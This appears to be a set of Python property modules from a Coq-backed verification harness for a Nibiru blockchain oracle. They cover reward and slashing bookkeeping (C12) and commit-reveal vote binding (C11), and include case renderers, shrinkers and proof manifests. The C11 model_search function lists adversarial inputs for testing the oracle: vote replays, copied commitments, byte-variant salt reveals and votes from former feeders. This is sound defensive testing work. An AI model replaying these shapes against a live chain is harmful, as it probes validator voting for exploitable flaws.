    post = "[%s]" % "; ".join("(%d, %s, %s)" % (p["id"], _b(p["jailed"]), _z(p["tokens"])) for p in o["post"])
    return "(mkSObs %s %s %s %s %s %s)" % (_b(o["panic"]), miss, rewards, _zs(o["bal"]), paid, post)


def _q(p):
    return "(mkOP (mkParams %s %s %s 900%%Z %s) %s %s %s)" % (_z(p["vp"]), _z(p["thr"]), _z(p["minv"]), _z(p["band"]),
                                                             _z(p["sf"]), _z(p["win"]), _z(p["mv"]))


def _edited(cur, op):
    """parameters in force from a 'params' step on (vote period / slash window are never edited)"""
    n = dict(cur)
    for k in ("thr", "minv", "band", "sf", "mv"):
        n[k] = op["p"][k]
    return n


def to_coq_case(rec):
    inp, obs = rec["input"], rec["obs"] or []
    cur = inp["params"]
    steps = []
    for op, o in zip(inp["ops"], obs):
        if op["k"] == "params":
            cur = _edited(cur, op)
        q = _q(cur)
        if op["k"] == "end":
            t = "(OEnd %s %s %s)" % (_state(inp, op, o["pre"]), _svs(o["pre"]), _z(o["h"]))
        elif op["k"] == "alloc":
            t = "(OAlloc %s %s)" % (_zs(op["coins"]), _z(op["n"]))
        else:
            t = "OOther"
        vs = "[%s]" % "; ".join(
            "mkAVote %d [%s]" % (v["voter"], "; ".join("(%d, %s)" % (tu["p"], _z(tu["r"])) for tu in v["t"]))
            for v in o.get("votes") or [])
        steps.append("(%s, %s, %s, %s)" % (q, t, _sobs(o), vs))
    return "(mkCase [%s])" % ";\n     ".join(steps)


def _flags(rec):
    inp, obs = rec["input"], rec["obs"] or []
    vp, win = inp["params"]["vp"], inp["params"]["win"]
    fl = set()
    prev_miss = []
    cur = inp["params"]
    running = True          # a slash window is running (the last EndBlocker step was not a window end)
    edited = False
    for op, o in zip(inp["ops"], obs):
        if op["k"] == "params":
            new = _edited(cur, op)
            fl.add("param-edit")
            if running:
                fl.add("param-edit-mid-window")
                if prev_miss:
                    fl.add("param-edit-mid-window-with-counters")
            for k, nm in (("band", "RewardBand"), ("sf", "SlashFraction"), ("mv", "MinValidPerWindow")):
                if int(new[k]) == 0 and int(cur[k]) != 0:
                    fl.add("edit-to-zero:" + nm)
            cur, edited = new, True
        if op["k"] == "end":
            h = o["h"]
            running = (h + 1) % win != 0
            zero = [nm for k, nm in (("band", "RewardBand"), ("sf", "SlashFraction"), ("mv", "MinValidPerWindow")) if int(cur[k]) == 0]
            if (h + 1) % win == 0 and prev_miss:
                for nm in zero:
                    if nm != "RewardBand":
                        fl.add("window-end-with-counters-under-zero:" + nm)
                if edited:
                    fl.add("window-end-with-counters-after-edit")
            if (h + 1) % vp == 0 and "RewardBand" in zero and op.get("votes"):
                fl.add("tally-under-zero:RewardBand")
            if (h + 1) % win == 0:
                fl.add("window-end")
                if prev_miss or ((h + 1) % vp == 0 and o["pre"] and any(True for _ in op.get("votes") or [])):
                    pass
                if prev_miss:
                    fl.add("window-end-with-counters")
                pre = {s["id"]: s for s in o["pre"]["svs"]}
                for p in o["post"]:
                    s = pre.get(p["id"])
                    if s and p["jailed"] and not s["jailed"]:
                        fl.add("slashed")
                    if s and s["exists"] and p["tokens"] != s["tokens"]:
                        fl.add("tokens-burned")
                if any(not s["exists"] for s in o["pre"]["svs"]) and prev_miss:
                    fl.add("window-end-with-removed-validator")
                if any(s["jailed"] for s in o["pre"]["svs"]) and prev_miss:
                    fl.add("window-end-with-jailed-validator")
            if o["paid"]:
                fl.add("paid")
            if o["panic"]:
                fl.add("panic")
        if len(o["miss"]) > len(prev_miss) or any(a != b for a, b in zip(o["miss"], prev_miss)):
            if o["miss"]:
                fl.add("miss-counted")
        if len(o["rewards"]) > 1:
            fl.add("overlapping-allocations")
        if op["k"] == "end" and (o["h"] + 1) % vp == 0 and not o["panic"]:
            if op.get("votes") and not o["paid"] and not any(True for _ in []):
                pass
        if op["k"] == "end" and o.get("votes"):
            fl.add("votes-kept-mid-period")
        prev_miss = o["miss"]
    return fl


def nontrivial(rec):
    fl = _flags(rec)
    return "window-end-with-counters" in fl or "paid" in fl


def classify(rec):
    inp = rec["input"]
    ks = ["steps=%d" % (len(inp["ops"]) // 4 * 4), "validators0=%d" % len(inp["vals"])]
    for op in inp["ops"]:
        ks.append("op:" + op["k"] + ("/" + op["jump"] if op.get("jump") else ""))
    ks += ["has:" + f for f in sorted(_flags(rec))]
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    fl = _flags(rec)
    return {"kind": "panic" if "panic" in fl else "bookkeeping",
            "ops": sorted({op["k"] for op in rec["input"]["ops"]})}


def input_size(inp):
    return sum(5 + sum(len(v["t"]) + 1 for v in op.get("votes") or []) for op in inp["ops"]) + len(inp["vals"]) * 3 + len(inp["wl"])


def shrink_candidates(inp):
    out = []
    ops = inp["ops"]
    # drop a suffix / a single op
    for k in range(len(ops) - 1, 0, -1):
        c = copy.deepcopy(inp)
        c["ops"] = c["ops"][:k]
        out.append(c)
    for i in range(len(ops)):
        if ops[i]["k"] != "create" and len(ops) > 1:
            c = copy.deepcopy(inp)
            c["ops"].pop(i)
            out.append(c)
    for i, op in enumerate(ops):
        for j in range(len(op.get("votes") or [])):
            c = copy.deepcopy(inp)
            c["ops"][i]["votes"].pop(j)
            out.append(c)
    for i in range(len(inp["wl"])):
        if len(inp["wl"]) > 1:
            c = copy.deepcopy(inp)
            c["wl"].pop(i)
            out.append(c)
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over an exact-arithmetic model of Tally / incrementMissCounters / rewardWinners / "
                 "GatherRewardsForVotePeriod / AllocateRewards / SlashAndResetMissCounters / EndBlocker, for ALL histories "
                 "(induction over op lists, any validator sets with distinct ids and non-negative power, any votes, heights, "
                 "allocations, staking answers): C12_history_holds (every step inside the overflow-free domain: no panic; "
                 "counters grow by the number of quorum pairs with a positive out-of-band vote and are reset at a window end; "
                 "exactly the existing, bonded, unjailed validators with valid rate (periods-misses)/periods < "
                 "MinValidPerWindow are jailed and burned min(trunc(power*10^6*SlashFraction), tokens); one period of every "
                 "allocation is consumed iff some validator has reward weight; each eligible validator is credited "
                 "trunc(pot*floor(w*10^18/W)/10^18), i.e. never more than pot*w/W and less by < 1 unit + pot/10^18; nobody "
                 "else is credited; sum <= pot; the module pays exactly the credited sum), C12_module_solvent (invariant "
                 "balance >= sum coins_per_period*periods_left over all histories), C12_tally_is_declarative (the loop with "
                 "sorted votes / performance map / missedValidators equals the declarative weight and miss count), "
                 "C12_abstain_never_miss, C12_miss_only_when_positive_out_of_band_on_quorum_pair, "
                 "C12_valid_rate_uint64_wrap_is_benign, C12_counters_reset; C12_history_with_param_edits_holds / "
                 "C12_module_solvent_with_param_edits: the same over histories whose oracle parameters are edited between "
                 "steps (every step judged under the parameters stored when it runs, zero-valued parameters included). The model is run against real keeper histories "
                 "every run (oracle.EndBlocker + staking ops + parameter edits on the x/oracle fixture) and the proved-sound checker Pb_history12v "
                 "is evaluated on the implementation's observations. C12_refuted_before_fix: before fe7d502 a counter of a "
                 "removed validator panics the window end."),
        "design_ref": "DESIGN.md §5 C12",
    },
    "level_note": ("Staking and distribution are not modelled: the staking view (power store order, bonded/jailed/tokens/power) "
                   "is read back before each EndBlocker call; Slash's effect on tokens is modelled only without unmatured "
                   "unbonding/redelegation entries. 'Standard deviation' is the implemented one (unweighted over positive votes, "
                   "0 when a squared deviation overflows 2^256, floor sqrt). A validator can collect one miss per PAIR per "
                   "period, so the valid rate can be negative; this is the code's accounting and what the theorems state. "
                   "AllocateRewards is assumed funded with >= 1 period (no production caller exists; it inserts the allocation "
                   "before the transfer). Only two denoms are observed by the checker (theorems are per denom index). "
                   "Trusted: Coq kernel + vm_compute, Lib/Dec.v, C10/Model.v, the Go driver, tools/props/c12.py."),
    "technique": "generated structural facts (go/ast) with obligations instantiating the theorems for the current tree + Coq proof (induction over histories, invariant) over an exact-arithmetic model + differential correspondence on keeper-level histories",
}
