"""C11 — oracle votes are commit-reveal bound, period-exact and feeder-authorised."""
import json
import unicodedata

ID = "C11"
HARNESS_TEST = "TestC11.*"
GEN = "c11"
COQ_MODEL = ["C11/Check.v", "C11/Sites.v", "Gen/C11Facts.v"]
COQ_PROOF_DEPS = ["C11/Proofs.v", "C11/ProofsPreimage.v", "C11/ProofsRates.v", "C11/Examples.v"]
COQ_OBLIG = ["C11/Property.v", "Gen/C11Oblig.v"]
CASES_HEADER = "Require Import Nib.C11.Model Nib.C11.Spec Nib.C11.Check."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
VIOLATES_FN = "violates"
RULE = ("TestC11: a case = one history (13-130 events) of oracle messages run on the real msg server of a NibiruTestApp at explicit "
        "block heights around vote-period boundaries: prevotes (honest / upper-case hex / hash without validator / hash "
        "copied from another validator / garbage), votes (matching reveal, wrong salt, textually different but "
        "equal-parsing rates, other rates, unparsable or non-whitelisted rates), salts and rate strings as BYTE strings "
        "(about a third of the commitments are over salts with leading / trailing / inner white space incl. tab, "
        "newline, NBSP, NEL, upper/lower case, NFC/NFD spellings, NUL / zero-width characters, invalid UTF-8; reveals by a "
        "non-identical variant that TrimSpace / case fold / NFC / NUL-strip would map to the committed string, followed by "
        "the byte-exact reveal; rate strings with surrounding white space, upper case, leading zeros), the commitment "
        "always computed by the driver's own SHA-256 over the exact bytes salt:rates:valoper, commitments to and hash-exact "
        "reveals of strings that are NOT a valid vote (one pair named twice: priced+priced, abstain+priced either order, "
        "abstain+abstain, adjacent or not; malformed tuples) with the validity decided by the driver's own lexer (vote_msg / "
        "valid_rates in the model), feeder delegations, VotePeriod / "
        "whitelist edits by the sudo root or a stranger, staking transitions through the real staking keeper + EndBlocker (jail / unjail, MaxValidators shrunk so that "
        "the weakest validators are displaced = Unbonding not jailed, full self-undelegation, unbonding time passing = "
        "Unbonded / removed, create validator), oracle EndBlocker per height, "
        "messages with broken addresses; senders = validator, current delegate, former delegate, stranger, other "
        "validator. non-trivial = the history has an accepted vote AND a vote refused for period / hash / feeder / "
        "not-bonded / no-prevote / unknown-pair (or, tx level, for a foreign signature); distinct = distinct input. "
        "TestC11Tx: the same messages as signed transactions through BeginBlock/DeliverTx/EndBlock/Commit, the signing "
        "key chosen independently of the feeder / operator field (salts incl. white-space variants that pass ValidateBasic). "
        "corpus/C11: attack shapes for VotePeriod 1,2,3,5 (attacks.json; bytes.json = byte-exact reveal shapes)")
ASSUMPTIONS = [
    "the msg.Feeder / msg.Operator field is the authenticated signer (GetSigners is checked by the driver; signature "
    "verification itself is the SDK ante handler)",
    "well-formedness of the single tuples (denoms, decimal syntax) and the WhitelistedPairs membership enter as flags computed "
    "by the driver with the repo's parser and store before the message is delivered; that every pair occurs at most once is "
    "decided by the model (valid_rates) from the driver's own lexing of the string",
    "staking status of a validator (none / not bonded / bonded) is an environment input read from the staking keeper",
    "SHA-256 truncated to 20 bytes is collision free on (salt ':' rates ':' valoper) (theorem hypothesis H injective; "
    "checked on every generated table)",
]
TRUSTED = [
    "harness/gen/c11: go/ast inventory of writers of Prevotes / Votes / FeederDelegations / oracle Params and of callers of "
    "the handlers (non-test code under x/, app/, eth/, cmd/; test_utils.go, testutil, simulation, *.pb.go excluded); "
    "coq/C11/Sites.v maps each allowed writer to the model handler standing for it",
    "reference hash = crypto/sha256 of salt:rates:valoper computed by the driver (not the repo's GetAggregateVoteHash)",
    "harness/gen/c11 second part: go/ast data-flow of the hash preimage inside types.GetAggregateVoteHash (fmt.Sprintf / + / "
    "strings.Join flattened into literals and arguments, local definitions followed) and of the arguments of its callers in "
    "x/oracle/keeper; coq/C11/Sites.v preimage_exact states what they must be for the model's preimage parameter to be the identity",
]

NADDR = 8
STAT = {0: "NoVal", 1: "NotBonded", 2: "Bonded"}
REASON = {
    "ok": "ROther", "feeder": "RFeeder", "notactive": "RNotActive", "noprevote": "RNoPrevote", "period": "RPeriod",
    "parse": "RParse", "unknownpair": "RUnknownPair", "hash": "RHash", "badhash": "RBadHash",
    "unauthorized": "RUnauthorized", "other": "ROther", "panic": "ROther",
}


def _b(x):
    return "true" if x else "false"


def _z(n):
    return "(%d)%%Z" % int(n)


def _aid(op, key):
    return int(op.get(key, 0)) % NADDR


def _obs(op, o):
    r = REASON.get(o["reason"], "ROther")
    if op["kind"] == "delegate" and o["reason"] == "notactive":
        r = "RNoValidator"
    if op["kind"] == "bad":
        r = "RMalformed" if not o["acc"] else "ROther"
    prev = "[" + "; ".join("(%d, (%d, %s))" % (p[0], p[1], _z(p[2])) for p in o["prev"]) + "]"
    votes = "[" + "; ".join("(%d, %d)" % (v[0], v[1]) for v in o["votes"]) + "]"
    feed = "[" + "; ".join("(%d, %d)" % (v[0], v[1]) for v in o["feed"]) + "]"
    return "ob %s %s %s %s %s %s" % (_b(o["acc"]), r, prev, votes, feed, _z(o["vp"]))


def _ops(rec):
    """message-level records carry their ops in the input; tx-level records list the delivered ops (with the real
    heights and the signing key) next to the observations"""
    return rec["obs"].get("ops") or rec["input"].get("ops", [])


def _msg(op, o):
    k = op["kind"]
    if "signer" in op and k in ("prevote", "vote", "delegate"):
        named = _aid(op, "val") if k == "delegate" else _aid(op, "feeder")
        if int(op["signer"]) != named:
            return "Malformed"  # signed by somebody else than the feeder / operator it names: never reaches the handler
    if k == "prevote":
        return "Prevote %d %d %d %s" % (_aid(op, "feeder"), _aid(op, "val"), o["hash_id"], _b(o["hex_ok"]))
    if k == "vote":
        # validity of the revealed string: well formed (repo's tuple parser AND the driver's lexer) and, by the model's
        # valid_rates, one tuple per pair in the DRIVER's own view of the string
        ts = "[" + "; ".join("(%d, %s)" % (p[0], _b(p[1])) for p in (o.get("pairs") or [])) + "]"
        return "vote_msg DupAll %d %d %d %d %d %s %s %s" % (
            _aid(op, "feeder"), _aid(op, "val"), o["salt_id"], o["rates_id"], o["tuples_id"],
            _b(o["parses"] and o.get("lex_ok", True)), ts, _b(o["wl"]))
    if k == "delegate":
        return "Delegate %d %d" % (_aid(op, "val"), _aid(op, "delegate"))
    if k == "edit":
        return "EditParams %s %s %s" % (_b(op.get("sudo", False)), _z(op.get("vp", 0)), _b(o.get("edit_valid", True)))
    if k == "end":
        return "EndBlock"
    if k == "bad":
        return "Malformed"
    return None  # staking ops: only their effect on the status vector enters the model


def to_coq_case(rec):
    inp, obs = rec["input"], rec["obs"]
    status = list(obs["init"]["status"])
    steps, table, seen = [], [], set()
    signers_ok = True
    for op, o in zip(_ops(rec), obs["steps"]):
        h = _z(op.get("h", 0))
        ob = _obs(op, o)
        signers_ok = signers_ok and o.get("signer_ok", True)
        m = _msg(op, o)
        if op["kind"] == "vote":
            key = (o["salt_id"], o["rates_id"], _aid(op, "val"))
            if key not in seen:
                seen.add(key)
                table.append("(%d, %d, %d, %d)" % (key + (o["reveal_id"],)))
        if m is not None:
            steps.append("(%s, %s, %s)" % (h, m, ob))
        ob_ok = _obs({"kind": "status"}, dict(o, acc=True, reason="ok"))
        for i, (x, y) in enumerate(zip(status, o["status"])):
            if x != y:
                steps.append("(%s, SetStatus %d %s, %s)" % (h, i, STAT[y], ob_ok))
        status = list(o["status"])
    return "mkcase %d [%s] %s [%s] %s [\n    %s]" % (
        NADDR, "; ".join(table), _z(obs["init"]["vp"]), "; ".join(STAT[x] for x in obs["init"]["status"]),
        _b(signers_ok), ";\n    ".join(steps))


MECH = {"period", "hash", "feeder", "notactive", "noprevote", "unknownpair"}


def _salt(op):
    if op.get("salt_hex"):
        try:
            return bytes.fromhex(op["salt_hex"]).decode("latin-1")
        except ValueError:
            pass
    return op.get("salt", "")


def _norm(s):
    """what a 'hygiene' normalisation would make of a string: NFC, no NUL / zero-width, trimmed, inner blanks collapsed, case folded"""
    s = unicodedata.normalize("NFC", s).replace("\x00", "").replace("\u200b", "")
    return " ".join(s.split()).casefold()


def _plain(s):
    return s.isascii() and s.isprintable() and s == s.strip() and "  " not in s


def nontrivial(rec):
    acc = False
    rej = False
    for op, o in zip(_ops(rec), rec["obs"]["steps"]):
        if op["kind"] == "vote":
            if o["acc"]:
                acc = True
            elif o["reason"] in MECH or "signer" in op:
                rej = True
    return acc and rej


def classify(rec):
    inp = rec["input"]
    ops = _ops(rec)
    ks = ["level:" + ("tx" if inp.get("mode") == "tx" else "msg"), "vp0=%d" % inp["vp0"], "nvals=%d" % inp["nvals"],
          "events=%d0s" % (len(ops) // 10)]
    deleg = {}
    former = {}
    vstate = rec["obs"]["init"].get("vstate") or ["?"] * NADDR
    committed = {}
    for op, o in zip(ops, rec["obs"]["steps"]):
        k = op["kind"]
        if k == "prevote" and o["acc"]:
            committed[_aid(op, "val")] = (_salt(op), op.get("rates", "")) if op.get("hash_mode") == "honest" and _aid(op, "hash_for") == _aid(op, "val") else None
            if not _plain(_salt(op)):
                ks.append("commit:salt-with-odd-bytes")
        if k == "vote":
            c = committed.get(_aid(op, "val"))
            res = "ok" if o["acc"] else "refused:" + o["reason"]
            if c is not None:
                sa, ra = _salt(op), op.get("rates", "")
                if sa != c[0] and _norm(sa) == _norm(c[0]) and ra == c[1]:
                    ks.append("reveal:salt-byte-variant-of-committed:" + res)
                elif sa == c[0] and ra != c[1] and _norm(ra) == _norm(c[1]):
                    ks.append("reveal:rates-byte-variant-of-committed:" + res)
                elif sa == c[0] and ra == c[1] and not _plain(sa):
                    ks.append("reveal:byte-exact-odd-salt:" + res)
            ps = o.get("pairs") or []
            rep = [p for i, p in enumerate(ps) if any(q[0] == p[0] for j, q in enumerate(ps) if j != i)]
            if rep and c is not None and _salt(op) == c[0] and op.get("rates", "") == c[1]:
                npos = sum(1 for p in rep if p[1])
                kind = "priced+priced" if npos == len(rep) else "abstain+abstain" if npos == 0 else "abstain+priced"
                ks.append("reveal:hash-exact-repeated-pair:%s:%s" % (kind, res))
            if o["acc"]:
                committed.pop(_aid(op, "val"), None)
        if k in ("prevote", "vote"):
            f, v = _aid(op, "feeder"), _aid(op, "val")
            who = "validator" if f == v else "feeder" if deleg.get(v) == f else "other"
            ks.append("%s-for-%s-validator-by-%s:%s" % (k, vstate[v], who, "ok" if o["acc"] else "refused"))
        ks.append("op:" + k)
        if "signer" in op and k != "end":
            named = _aid(op, "val") if k == "delegate" else _aid(op, "feeder")
            ks.append("tx-signed-by:%s:%s" % ("named" if int(op["signer"]) == named else "other", "ok" if o["acc"] else "refused"))
        if k in ("prevote", "vote"):
            ks.append("%s:%s" % (k, o["reason"]))
            f, v = _aid(op, "feeder"), _aid(op, "val")
            role = "self" if f == v else "delegate" if deleg.get(v) == f else "former" if f in former.get(v, ()) else "other"
            ks.append("%s-by:%s:%s" % (k, role, "ok" if o["acc"] else "refused"))
            if k == "prevote" and op.get("hash_mode") != "honest":
                ks.append("prevote-hash:" + op.get("hash_mode", "lit"))
            if k == "prevote" and op.get("hash_mode") == "honest" and _aid(op, "hash_for") != v:
                ks.append("prevote-hash:copycat")
        if k == "delegate" and o["acc"]:
            v = _aid(op, "val")
            if v in deleg:
                former.setdefault(v, set()).add(deleg[v])
            deleg[v] = _aid(op, "delegate")
            former.get(v, set()).discard(deleg[v])
        if k == "edit":
            ks.append("edit:%s" % ("ok" if o["acc"] else "unauthorized" if o["reason"] == "unauthorized" else "invalid-params"))
        vstate = o.get("vstate") or vstate
    return ks


def describe(rec):
    return {"input": rec["input"], "delivered_ops": rec["obs"].get("ops"), "observed": [
        {"acc": o["acc"], "reason": o["reason"], "prev": o["prev"], "votes": o["votes"], "feed": o["feed"], "vp": o["vp"]}
        for o in rec["obs"]["steps"]]}


def signature(rec):
    kinds = sorted({op["kind"] for op in _ops(rec)})
    bad = []
    for op, o in zip(_ops(rec), rec["obs"]["steps"]):
        if op["kind"] == "vote" and o["acc"]:
            bad.append("vote-accepted")
            break
    return {"kind": "oracle-vote-acceptance", "ops": kinds, "effect": bad}


def input_size(inp):
    if inp.get("mode") == "tx":
        return sum(len(b) for b in inp["blocks"]) + len(inp["blocks"])
    return len(inp["ops"])


def shrink_candidates(inp):
    out = []
    if inp.get("mode") == "tx":
        bl = inp["blocks"]
        for i in range(len(bl)):
            if len(bl) > 1:
                out.append(dict(inp, blocks=bl[:i] + bl[i + 1:]))
            for j in range(len(bl[i])):
                out.append(dict(inp, blocks=bl[:i] + [bl[i][:j] + bl[i][j + 1:]] + bl[i + 1:]))
        return out
    ops = inp["ops"]
    n = len(ops)
    # halves first, then single removals
    if n > 4:
        out.append(dict(inp, ops=ops[: n // 2]))
        out.append(dict(inp, ops=ops[n // 2:]))
    step = max(1, n // 50)
    for i in range(0, n, step):
        out.append(dict(inp, ops=ops[:i] + ops[i + step:]))
    return [c for c in out if c["ops"]]


def model_search(chk):
    """Attack shapes the property forbids, as harness inputs to be replayed on the implementation (used when a proof
    or the correspondence broke and no trace violated the property yet)."""
    R = "(ubtc:uusd,20000.5)"
    R2 = "(ubtc:uusd,20000.50)"
    RN = "(ubtc:uusd,20000.500000000000000000)"

    def pv(h, f, v, salt="1", rates=R, hfor=None, mode="honest"):
        return {"kind": "prevote", "h": h, "feeder": f, "val": v, "hash_for": v if hfor is None else hfor,
                "hash_mode": mode, "salt": salt, "rates": rates}

    def vt(h, f, v, salt="1", rates=R):
        return {"kind": "vote", "h": h, "feeder": f, "val": v, "salt": salt, "rates": rates}

    def end(h):
        return {"kind": "end", "h": h}

    out = []
    for vp in (1, 2, 3, 5):
        base = 2 * vp
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0), vt(base, 0, 0)]})                      # same period
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0), vt(base + 2 * vp, 0, 0)]})             # two periods later
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0), vt(base + vp, 0, 0), vt(base + vp, 0, 0)]})  # replay
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0), vt(base + vp, 0, 0, salt="2")]})      # wrong salt
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0), vt(base + vp, 0, 0, rates=R2)]})      # other text
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0, rates=RN), vt(base + vp, 0, 0, rates=R)]})  # committed to the normalised spelling
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0, rates=R), vt(base + vp, 0, 0, rates=RN)]})
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0), pv(base, 1, 1, hfor=0), vt(base + vp, 0, 0), vt(base + vp, 1, 1)]})  # copy-cat
        # byte-exact reveal: a commitment over S is revealed by a non-identical variant (must be refused) and vice versa
        for a, b in (("ab", "ab "), ("ab", " ab"), ("ab", "ab\n"), ("a", "\ta"), ("ab", "AB"), ("\u00e9", "e\u0301"), ("a", "a\x00"),
                     ("a b", "a  b"), ("x", "x\u00a0"), (" ", "  ")):
            out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0, salt=a), vt(base + vp, 0, 0, salt=b), vt(base + vp, 0, 0, salt=a)]})
            out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0, salt=b), vt(base + vp, 0, 0, salt=a), vt(base + vp, 0, 0, salt=b)]})
        for tail in (" ", "\n", "\r\n", "\t"):
            out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0, rates=R), vt(base + vp, 0, 0, rates=R + tail), vt(base + vp, 0, 0, rates=R)]})
            out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0, rates=R + tail), vt(base + vp, 0, 0, rates=R)]})
        # hash-exact reveal of a string naming one pair twice / malformed: refused, prevote pending
        for d in ("(ubtc:uusd,0)|(ubtc:uusd,1700)", "(ubtc:uusd,1700)|(ubtc:uusd,0)", "(ubtc:uusd,-1)|(ubtc:uusd,0)",
                  "(ubtc:uusd,1)|(ubtc:uusd,2)", "(ueth:uusd,0)|(ubtc:uusd,20000.5)|(ueth:uusd,1500)", "(ubtc:uusd,0)|(ubtc:uusd)"):
            out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0, rates=d), vt(base + vp, 0, 0, rates=d), vt(base + vp, 0, 0)]})
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0, mode="noval"), vt(base + vp, 0, 0)]})
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 5, 0), pv(base, 0, 0), vt(base + vp, 5, 0)]})  # stranger
        out.append({"vp0": vp, "nvals": 3, "ops": [{"kind": "delegate", "h": base, "val": 0, "delegate": 5}, pv(base, 5, 0),
                                                    {"kind": "delegate", "h": base, "val": 0, "delegate": 6}, vt(base + vp, 5, 0)]})  # former feeder
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0), {"kind": "jail", "h": base, "val": 0}, vt(base + vp, 0, 0)]})  # unbonded
        # displaced from a full active set (Unbonding, not jailed), by the validator and by its feeder
        out.append({"vp0": vp, "nvals": 3, "ops": [{"kind": "delegate", "h": base, "val": 0, "delegate": 5}, pv(base, 5, 0),
                                                    {"kind": "maxvals", "h": base, "n": 2}, pv(base, 0, 0), pv(base, 5, 0),
                                                    vt(base + vp, 5, 0), vt(base + vp, 0, 0)]})
        # fully undelegated (jailed, Unbonding), then matured (removed)
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 1, 1), {"kind": "undelegate", "h": base, "val": 1}, vt(base + vp, 1, 1),
                                                    pv(base + vp, 1, 1), {"kind": "mature", "h": base + vp}, pv(base + vp, 1, 1)]})
        # displaced, matured (Unbonded, not jailed)
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0), {"kind": "maxvals", "h": base, "n": 2}, {"kind": "mature", "h": base},
                                                    vt(base + vp, 0, 0), pv(base + vp, 0, 0)]})
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0, rates="(ufoo:ubar,1.5)"), vt(base + vp, 0, 0, rates="(ufoo:ubar,1.5)")]})
        out.append({"vp0": vp, "nvals": 3, "ops": [pv(base, 0, 0)] + [end(h) for h in range(base, base + 2 * vp)] + [vt(base + 2 * vp, 0, 0)]})
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over an executable model of the oracle prevote / vote / delegate / edit-params handlers and "
                 "the period-end clearing, for ALL states, messages, heights and histories (no bound on length): "
                 "C11_vote_accepted_iff (a vote is accepted iff signer is the validator or its current delegate, the "
                 "validator is bonded, a stored prevote of that validator has height/VotePeriod - submit/VotePeriod = 1 "
                 "in the code's uint64 arithmetic, the rates parse to whitelisted pairs and the stored hash equals "
                 "H(salt, exact rate string, validator)); C11_prevote_consumed and C11_rejected_changes_nothing; over "
                 "arbitrary histories with VotePeriod edits and staking changes: C11_no_reuse (no Prevote message backs two "
                 "accepted votes), C11_vote_backed_by_prevote (each accepted vote is backed by an earlier Prevote message of "
                 "the same validator carrying exactly that hash, one period earlier), C11_commit_reveal_binding (under "
                 "hash injectivity the commitment fixes salt, spelling of the rates and validator: a copied commitment never "
                 "backs a vote), C11_feeder_exclusive / C11_former_delegate_refused (a former delegate is refused from the next "
                 "message on), C11_stale_prevotes_dropped / C11_prevote_lifetime (clearing rule = reveal window). The model is "
                 "tied to /repo on every run by executing generated message histories on the real msg server, keeper and "
                 "EndBlocker of a NibiruTestApp and comparing accept/reject, error class and the Prevotes / Votes / "
                 "FeederDelegations stores and VotePeriod after every message; the proved-sound checker Pb (the property as a "
                 "predicate on traces, which every model trace satisfies: C11_model_traces_satisfy_P) is evaluated on the "
                 "implementation traces themselves. A second driver sends the messages as signed transactions through "
                 "DeliverTx with foreign signers. Generated facts (Gen/C11Facts.v, re-extracted each run) + "
                 "C11_store_writers_are_the_modelled_ones / C11_handlers_reached_only_as_modelled: no other code writes "
                 "the commit-reveal stores or calls the handlers. Salts and rate strings are ids of EXACT byte strings; the model "
                 "carries a preimage parameter pi (which string is hashed in the place of the revealed salt / rate string): "
                 "C11_reveal_exact_iff_preimage_exact and C11_exact_reveal_accepted_iff_preimage_exact (the hash clause of the "
                 "property holds for all states and votes IFF pi is the identity), C11_normalising_preimage_refuted / "
                 "C11_normalising_preimage_refuses_exact_reveal (any normalising variant — TrimSpace, case fold, re-rendered "
                 "tuples — is refuted by a two-message history), C11_trim_preimage_refuted (the trimming variant, concretely); "
                 "the pinned tree's preimage is re-extracted on every run (hash_preimage, vote_hash_calls) and "
                 "C11_hash_preimage_exact / C11_no_transform_before_hashing / C11_current_tree_model_is_exact state that nothing "
                 "is applied to salt or rates between the message and the hash. The driver computes every commitment with its "
                 "own SHA-256 over the exact bytes and reveals committed strings by non-identical byte variants (white space, "
                 "case, Unicode normal form, NUL) as well as byte-exactly. Validity of the revealed string: vote_msg / valid_rates "
                 "(well formed and one tuple per pair in the driver's OWN lexing of the string, abstain entries included); "
                 "C11_vote_accepted_iff_valid_rates, C11_invalid_rates_refused_prevote_pending (a hash-exact reveal naming a pair "
                 "twice is refused, prevote pending), C11_dup_priced_only_refuted; generated fact rates_dup_check + "
                 "C11_rates_duplicates_checked_for_all_entries."),
        "design_ref": "DESIGN.md §5 C11",
    },
    "level_note": ("Trusted: Coq kernel + vm_compute; the Go driver (canonical ids, its own SHA-256 reference hash, error "
                   "classification); tools/props/c11.py rendering. Entering as inputs, not modelled: the rate-string parser and "
                   "whitelist membership (flags computed with the repo's parser/store before delivery), staking status of a "
                   "validator, sudo membership of the EditOracleParams sender (C16), signature verification binding msg.Feeder "
                   "to the signer (SDK ante; the driver checks GetSigners). Hypothesis of the binding theorem: SHA-256/20 is "
                   "injective on salt:rates:valoper strings (the format is unambiguous because a parsable rate string cannot "
                   "contain ':(' — checked by hand, and the generated hash tables are checked for collisions on every run). "
                   "Tally, rewards, slashing at period end are C10/C12."),
    "technique": "Coq proof (case analysis per handler + invariants by induction over message histories with a ghost origin field) + differential correspondence on msg-server traces",
}
