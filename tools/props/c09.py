"""C09 — queries and simulations never influence block execution."""
